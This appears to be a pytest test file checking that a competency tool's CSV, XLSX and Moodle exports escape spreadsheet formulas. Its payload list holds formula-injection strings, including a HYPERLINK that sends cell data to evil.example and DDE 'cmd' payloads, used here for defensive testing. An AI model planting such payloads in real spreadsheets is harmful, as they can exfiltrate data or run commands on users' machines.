"""Class 5 of issue 14: spreadsheet formulas stay inert in every CSV and XLSX we write.

Hostile names (competencies, agents, teams) go through every writer; no cell, header rows
included, may start like a formula, and the Moodle export escapes by default.
"""

import csv
import io
import json
import shutil

import openpyxl
import pytest
import yaml

from competency.io.spreadsheet import FORMULA_STARTS, plain_cell, safe_cell
from hostile import REPORTS, assert_clean, invoke

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0", "\r=1+1", " =1+1", "＝HYPERLINK(\"http://evil.example\")",
    "=WEBSERVICE(\"http://evil.example\")", "-2+3+cmd|' /C calc'!A0", "@IMPORTXML(\"x\")",
]


def _inert(value: object, where: str) -> None:
    if isinstance(value, str):
        assert not value.lstrip(" ").startswith(FORMULA_STARTS), f"{where}: live formula {value!r}"


def _check_csv(text: str) -> None:
    for r, row in enumerate(csv.reader(io.StringIO(text.lstrip("\ufeff")))):
        for c, cell in enumerate(row):
            _inert(cell, f"row {r + 1} column {c + 1}")


def _check_xlsx(data: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                _inert(cell.value, f"{sheet.title}!{cell.coordinate}")


@pytest.fixture(scope="module")
def hostile_inputs(tmp_path_factory):
    """The report fixture with every name replaced by a formula payload."""
    root = tmp_path_factory.mktemp("formulas")
    catalog = yaml.safe_load((REPORTS / "catalog" / "catalog.yaml").read_text(encoding="utf-8"))
    for i, comp in enumerate(catalog["competencies"]):
        comp["name"] = {"en": PAYLOADS[i % len(PAYLOADS)], "zh": PAYLOADS[-1 - i % len(PAYLOADS)]}
    for i, mod in enumerate(catalog["modules"]):
        mod["title"] = PAYLOADS[(i + 3) % len(PAYLOADS)]
    (root / "catalog").mkdir()
    (root / "catalog" / "catalog.yaml").write_text(yaml.safe_dump(catalog, allow_unicode=True), encoding="utf-8")
    shutil.copytree(REPORTS / "profiles", root / "profiles")
    for i, path in enumerate(sorted((root / "profiles").glob("*.yaml"))):
        profile = yaml.safe_load(path.read_text(encoding="utf-8"))
        profile.update(name=PAYLOADS[i], team=PAYLOADS[i + 4], manager=PAYLOADS[i + 8])
        path.write_text(yaml.safe_dump(profile, allow_unicode=True), encoding="utf-8")
    plan = json.loads((REPORTS / "plan.json").read_text(encoding="utf-8"))
    for i, agent in enumerate(plan["agents"]):
        agent.update(name=PAYLOADS[(i + 1) % len(PAYLOADS)], team=PAYLOADS[(i + 5) % len(PAYLOADS)])
    (root / "plan.json").write_text(json.dumps(plan, ensure_ascii=False), encoding="utf-8")
    return root


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_makes_every_formula_payload_plain_text_and_back(payload):
    cell = safe_cell(payload)
    _inert(cell, "cell")
    assert plain_cell(cell) == payload.replace("\r", "\n")


@pytest.mark.parametrize("value", [-3, -0.5, 0, 12.25, None])
def test_numbers_stay_numbers(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("lang", ["en", "zh"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_gaps_exports_and_their_header_rows_hold_no_live_formula(hostile_inputs, tmp_path, fmt, lang):
    out = tmp_path / f"gaps.{fmt}"
    assert_clean(invoke(["gaps", "--catalog", hostile_inputs / "catalog", "--profiles", hostile_inputs / "profiles",
                         "--format", fmt, "--lang", lang, "--out", out]), 0)
    if fmt == "csv":
        _check_csv(out.read_bytes().decode("utf-8-sig"))
    else:
        _check_xlsx(out.read_bytes())
        header = [c.value for c in openpyxl.load_workbook(out).worksheets[0][1]]  # the heatmap, named in --lang
        assert any(str(v).startswith("'=") for v in header), header  # the payload is there, as text


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_the_cohort_workbook_holds_no_live_formula(hostile_inputs, tmp_path, lang):
    out = tmp_path / "cohort.xlsx"
    assert_clean(invoke(["report", "cohort", "--plan", hostile_inputs / "plan.json", "--catalog",
                         hostile_inputs / "catalog", "--profiles", hostile_inputs / "profiles", "--format", "xlsx",
                         "--lang", lang, "--out", out]), 0)
    _check_xlsx(out.read_bytes())


def test_the_moodle_export_escapes_formulas_by_default_and_reimports_the_same_names(hostile_inputs, tmp_path):
    out = tmp_path / "framework.csv"
    text = assert_clean(invoke(["catalog", "export", "--format", "moodle", "--catalog", hostile_inputs / "catalog",
                                "--out", out]), 0)
    assert "--raw-cells" in text
    _check_csv(out.read_bytes().decode("utf-8"))
    again = tmp_path / "again"
    assert_clean(invoke(["catalog", "import", out, "--out", again]), 0)
    names = {c["name"]["en"] if isinstance(c["name"], dict) else c["name"]
             for f in again.rglob("*.yaml") for c in (yaml.safe_load(f.read_text(encoding="utf-8")) or {}).get(
                 "competencies", [])}
    assert '=HYPERLINK("http://evil.example/?x="&A1,"click")' in names


def test_raw_cells_write_the_moodle_values_byte_for_byte(hostile_inputs, tmp_path):
    out = tmp_path / "framework.csv"
    assert_clean(invoke(["catalog", "export", "--format", "moodle", "--raw-cells", "--catalog",
                         hostile_inputs / "catalog", "--out", out]), 0)
    cells = [c for row in csv.reader(io.StringIO(out.read_bytes().decode("utf-8"))) for c in row]
    assert "=1+1" in cells
